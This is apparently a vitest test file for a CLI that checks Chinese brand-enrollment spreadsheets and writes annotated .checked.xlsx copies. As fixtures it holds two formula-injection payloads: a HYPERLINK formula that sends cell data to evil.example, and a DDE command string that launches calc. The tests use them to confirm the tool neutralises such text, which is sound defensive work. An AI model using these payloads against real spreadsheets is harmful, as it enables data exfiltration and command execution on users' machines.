/**
 * `--annotate DIR`: a <basename>.checked.xlsx per input whose first sheet 檢查結果 lists every
 * violation with an internal link to its cell, and whose violating cells are filled (red for
 * errors, amber for warnings) and carry a note. Inputs stay byte-identical; the user's cells of
 * an .xlsx are left as they were, text we write (檢查結果, a CSV's rebuilt cells) is neutralised
 * against formula injection; a CSV's copy has typed cells and re-checks to the CSV's violations.
 */
import { copyFileSync, existsSync, readdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ENROLLMENT_HEADER, FIXTURES, noteText, openWorkbook as open, runCli, sha256, tempDir, writeWorkbook, type CliRun } from './helpers';

const tmp = tempDir();
const input = path.join(tmp.dir, 'brand-form.xlsx');
const csvInput = path.join(tmp.dir, 'brand-csv.csv');
const big5Input = path.join(tmp.dir, 'enrollment-big5.csv');
const outDir = path.join(tmp.dir, 'checked');
const INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"x")';

let run: CliRun;
let report: {
  files: {
    path: string;
    violations: { ruleId: string; severity: string; sheet: string | null; cell: string | null; message: string; value?: string }[];
    meta: { annotated?: string };
  }[];
};
const hashesBefore = new Map<string, string>();

beforeAll(async () => {
  await writeWorkbook(input, {
    報名表: [
      ['夥伴互利計劃報名表'],
      ENROLLMENT_HEADER,
      ['好日子食品', INJECTION, 'mkt@goodday.example.com', '美食保健', '季方案', '2026/3/20 10:00', '是', '否', '4/1、4/14、4/22、5/5、5/12、5/19、6/2、6/9', '8%', '2%', 1200000],
      ['@evil', 'bloom_beauty', 'a@@b', '美妝保養', '5月單月方案', '2026/4/1 10:00', '是', '否', '5/6、5/13、5/27', '10%', '2%', 500000],
    ],
    備註: [['這個分頁不是報名表']],
  });
  writeFileSync(
    csvInput,
    '\uFEFF' +
      [ENROLLMENT_HEADER.join(','), `+cmd|' /C calc'!A0,shop-1,bad-mail,美食保健,5月單月方案,2026/4/1 10:00,是,否,5/6,8%,2%,1000`].join('\r\n') +
      '\r\n',
  );
  copyFileSync(path.join(FIXTURES, 'csv', 'enrollment-big5.csv'), big5Input);
  for (const f of [input, csvInput, big5Input]) hashesBefore.set(f, sha256(f));
  run = await runCli(['validate', input, csvInput, big5Input, '--annotate', outDir, '--format', 'json', '--today', '2026-03-20']);
  report = JSON.parse(run.stdout);
});

afterAll(() => tmp.cleanup());


function fillOf(cell: ExcelJS.Cell): string | undefined {
  const fill = cell.fill as ExcelJS.FillPattern | undefined;
  return fill?.fgColor?.argb;
}

describe('--annotate', () => {
  it('writes <basename>.checked.xlsx for every input, xlsx and CSV alike, and leaves the inputs unchanged', () => {
    expect(run.code).toBe(1);
    expect(readdirSync(outDir).sort()).toEqual(['brand-csv.checked.xlsx', 'brand-form.checked.xlsx', 'enrollment-big5.checked.xlsx']);
    for (const [file, hash] of hashesBefore) expect(sha256(file), file).toBe(hash);
    for (const f of report.files) expect(f.meta.annotated && existsSync(f.meta.annotated)).toBe(true);
  });

  it('puts 檢查結果 first, one row per violation with a link to the cell', async () => {
    const book = await open(path.join(outDir, 'brand-form.checked.xlsx'));
    expect(book.worksheets.map((w) => w.name)).toEqual(['檢查結果', '報名表', '備註']);
    const summary = book.worksheets[0]!;
    const violations = report.files.find((f) => f.path === input)!.violations;
    expect(violations.length).toBeGreaterThan(2);
    expect(summary.getRow(2).getCell(1).value).toBe('工作表');
    violations.forEach((v, i) => {
      const row = summary.getRow(3 + i);
      expect(row.getCell(5).value).toBe(v.ruleId);
      expect(row.getCell(6).value).toBe(v.message);
      if (v.cell) {
        const link = row.getCell(2).value as ExcelJS.CellFormulaValue;
        expect(link.result).toBe(v.cell);
        expect(link.formula).toBe(`HYPERLINK("#'${v.sheet}'!${v.cell}","${v.cell}")`);
      }
    });
  });

  it('fills each violating cell by its worst severity and notes the messages', async () => {
    const book = await open(path.join(outDir, 'brand-form.checked.xlsx'));
    const sheet = book.getWorksheet('報名表')!;
    const violations = report.files.find((f) => f.path === input)!.violations.filter((v) => v.cell && v.sheet === '報名表');
    for (const v of violations) {
      const cell = sheet.getCell(v.cell!);
      const worst = violations.filter((o) => o.cell === v.cell).some((o) => o.severity === 'error') ? 'error' : v.severity;
      const expected = worst === 'error' ? 'FFFFC7CE' : worst === 'warning' ? 'FFFFEB9C' : undefined;
      expect(fillOf(cell), v.cell!).toBe(expected);
      expect(noteText(cell)).toContain(v.message);
    }
    // The shop id cell (error) and the chosen days (warning) are the ones we expect.
    expect(fillOf(sheet.getCell('B3'))).toBe('FFFFC7CE');
    expect(fillOf(sheet.getCell('I3'))).toBe('FFFFEB9C');
    // Cells without problems keep their (absent) fill; no value of the user's is rewritten: text
    // that looks like a formula stays the user's text (a string cell, never a formula).
    expect(fillOf(sheet.getCell('A3'))).toBeUndefined();
    expect(sheet.getCell('A3').value).toBe('好日子食品');
    expect(sheet.getCell('B3').value).toBe(INJECTION);
    expect(sheet.getCell('B3').type).toBe(ExcelJS.ValueType.String);
    expect(sheet.getCell('A4').value).toBe('@evil');
  });

  it('neutralises user text copied into new cells (summary sheet and rebuilt CSV)', async () => {
    const book = await open(path.join(outDir, 'brand-form.checked.xlsx'));
    const summary = book.worksheets[0]!;
    const values: unknown[] = [];
    // Column B holds our own link formulas; every other cell is plain text.
    summary.eachRow((row) => row.eachCell((cell, col) => col !== 2 && values.push(cell.value)));
    const strings = values.filter((v): v is string => typeof v === 'string');
    expect(strings).toContain(`'${INJECTION}`);
    for (const s of strings) expect(s, s).not.toMatch(/^[=+\-@\t\r]/);
    for (const v of values) expect(typeof v === 'object' && v !== null && 'formula' in v).toBe(false);

    const csvBook = await open(path.join(outDir, 'brand-csv.checked.xlsx'));
    expect(csvBook.worksheets[0]!.name).toBe('檢查結果');
    const rebuilt = csvBook.worksheets[1]!;
    expect(rebuilt.getCell('A2').value).toBe(`'+cmd|' /C calc'!A0`);
    expect(fillOf(rebuilt.getCell('C2'))).toBe('FFFFC7CE');
  });

  it('a CSV becomes typed cells (numbers, percents, date-times with the template formats) and re-checks to the same violations', async () => {
    const book = await open(path.join(outDir, 'brand-csv.checked.xlsx'));
    const rebuilt = book.worksheets[1]!;
    expect(rebuilt.getCell('J2').value).toBe(0.08);
    expect(rebuilt.getCell('J2').numFmt).toBe('0%');
    expect(rebuilt.getCell('L2').value).toBe(1000);
    expect(rebuilt.getCell('L2').numFmt).toBe('#,##0');
    expect((rebuilt.getCell('F2').value as Date).toISOString()).toBe('2026-04-01T10:00:00.000Z');
    expect(rebuilt.getCell('F2').numFmt).toBe('yyyy/mm/dd hh:mm:ss');
    // The copies are named one by one: a folder scan skips the tool's own *.checked.xlsx (issue 11).
    const again = await runCli(['validate', ...readdirSync(outDir).sort().map((f) => path.join(outDir, f)), '--format', 'json', '--today', '2026-03-20']);
    const copies = (JSON.parse(again.stdout) as typeof report).files;
    const key = (v: (typeof report)['files'][number]['violations'][number]) => [v.ruleId, v.sheet, v.cell, v.message].join('|');
    for (const [copy, original] of [
      ['brand-csv.checked.xlsx', csvInput],
      ['enrollment-big5.checked.xlsx', big5Input],
    ] as const) {
      const source = report.files.find((f) => f.path === original)!;
      const rechecked = copies.find((f) => f.path.endsWith(copy))!;
      const sheetName = source.violations.find((v) => v.sheet !== null)!.sheet;
      // The copy's tab is named like the CSV's table; the violations are the CSV's.
      expect(rechecked.violations.map(key), copy).toEqual(source.violations.map((v) => key({ ...v, sheet: v.sheet === sheetName ? rechecked.violations.find((w) => w.sheet !== null)!.sheet : v.sheet })));
    }
  });

  it('rebuilds a Big5 CSV with its Chinese text intact', async () => {
    const book = await open(path.join(outDir, 'enrollment-big5.checked.xlsx'));
    const sheet = book.worksheets[1]!;
    expect(sheet.getCell('A1').value).toBe('品牌名稱');
    const v = report.files.find((f) => f.path === big5Input)!.violations.find((x) => x.ruleId === 'enrollment/invalid-shop-id')!;
    expect(sheet.getCell(v.cell!).value).toBe('trend wear');
    expect(fillOf(sheet.getCell(v.cell!))).toBe('FFFFC7CE');
  });
});
